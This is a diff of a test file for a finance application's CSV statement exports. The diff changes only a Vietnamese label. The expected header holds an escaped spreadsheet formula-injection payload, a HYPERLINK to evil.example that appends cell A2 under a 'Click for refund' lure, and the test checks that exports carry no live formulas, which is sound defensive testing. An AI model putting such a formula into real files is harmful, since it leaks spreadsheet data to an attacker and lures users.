@@ -116,7 +116,7 @@ describe("finance's CSV exports", () => {
     const text = await csv(`/billing/statements/2026-11?agency=${agency.agencyId}`);
     const [first = ''] = text.split('\r\n');
     expect(first).toBe(
-      `Sao kê / Statement,2026-11,Cơ quan / Agency,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")",${agency.agencyId}`,
+      `Bảng kê / Statement,2026-11,Cơ quan / Agency,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")",${agency.agencyId}`,
     );
     expect(formulas(text)).toEqual([]);
     // The gateway computes the refund: -500 stays a number a spreadsheet adds up, not text.
